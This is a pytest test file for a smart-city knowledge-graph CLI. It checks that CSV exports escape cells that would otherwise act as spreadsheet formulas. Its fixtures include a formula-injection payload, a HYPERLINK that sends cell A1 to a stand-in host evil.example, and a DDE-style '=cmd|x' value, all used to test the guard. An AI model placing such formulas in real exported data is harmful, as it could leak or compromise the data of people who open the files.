"""CSV meant for spreadsheets and Gephi cannot carry a formula: a cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``. SPARQL results in CSV keep
the W3C format, byte for byte."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from smartcity_kg.import_templates import TEMPLATES, template_csv

SCRIPT = str(Path(sys.executable).with_name("smartcity-kg"))
EVIL = """\
@prefix sc: <https://w3id.org/smartcity-kg/ontology#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
<https://example.org/evil> a sc:TopicArea ;
  rdfs:label "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"Mobility\\")"@en ;
  skos:note "-2+3" , "\\tx" ;
  sc:servesGoal <https://w3id.org/smartcity-kg/id/goal/natur> .
"""
LABEL = '"\'=HYPERLINK(""http://evil.example/?""&A1,""Mobility"")"'


def cli(*args: str) -> subprocess.CompletedProcess:
    done = subprocess.run([SCRIPT, *args], capture_output=True)
    return done


@pytest.fixture
def evil(tmp_path) -> Path:
    path = tmp_path / "evil.ttl"
    path.write_text(EVIL, encoding="utf-8")
    return path


def rows_of(data: bytes, marker: str) -> list[str]:
    return [line for line in data.decode().split("\r\n") if marker in line]


@pytest.mark.slow
def test_gephi_csv_cells_cannot_be_formulas(tmp_path, evil):
    out = tmp_path / "graph.csv"
    assert cli("export", "--data", str(evil), "--view", "topics", "-o", str(out)).returncode == 0
    nodes = (tmp_path / "graph.nodes.csv").read_bytes()
    header = b"Id,Label,class,creativeWorkStatus,derivedFrom,description,fundingAmount,"
    assert nodes.startswith(header + b"fundingYear,note,quote\r\n")
    assert rows_of(nodes, "example.org/evil") == [
        f"https://example.org/evil,{LABEL},sc:TopicArea,,,,,,'\tx | -2+3,"
    ]
    # the same label in SPARQL results CSV stays as the W3C format has it
    sparql = cli(
        "query", "-e", "SELECT ?l WHERE { <https://example.org/evil> rdfs:label ?l }",
        "--data", str(evil), "-f", "csv",
    )  # fmt: skip
    assert sparql.stdout == b'l\r\n"=HYPERLINK(""http://evil.example/?""&A1,""Mobility"")"\r\n'


@pytest.mark.slow
def test_analyze_csv_cells_cannot_be_formulas(evil):
    done = cli("analyze", "centrality", "--data", str(evil), "-f", "csv")
    assert done.returncode == 0
    assert rows_of(done.stdout, "example.org/evil") == [
        f"https://example.org/evil,{LABEL},sc:TopicArea,1,0.0,0.0042"
    ]


@pytest.mark.slow
def test_import_problem_report_csv_cells_cannot_be_formulas(tmp_path):
    rows = tmp_path / "rows.csv"
    rows.write_text("name,region,source\nX,=cmd|x,Ratsbeschluss\n", encoding="utf-8")
    done = cli("import", str(rows), "-o", str(tmp_path / "out.ttl"), "-f", "csv")
    assert done.returncode == 1
    assert done.stdout == (
        b"row,column,value,reason,suggestion\r\n2,region,'=cmd|x,unknown region '=cmd|x',\r\n"
    )


def test_formula_guard_rules_and_templates():
    from smartcity_kg.spreadsheet import safe_cell

    assert [safe_cell(c) for c in ("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1", "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx",
    ]  # fmt: skip
    assert [safe_cell(c) for c in ("-3.5", "+7", "1e-3", "a=b", "", 3, None)] == [
        "-3.5", "+7", "1e-3", "a=b", "", 3, None,
    ]  # fmt: skip
    for kind in TEMPLATES:
        cells = [c for line in template_csv(kind).splitlines() for c in line.split(",")]
        assert all(safe_cell(c) == c for c in cells)
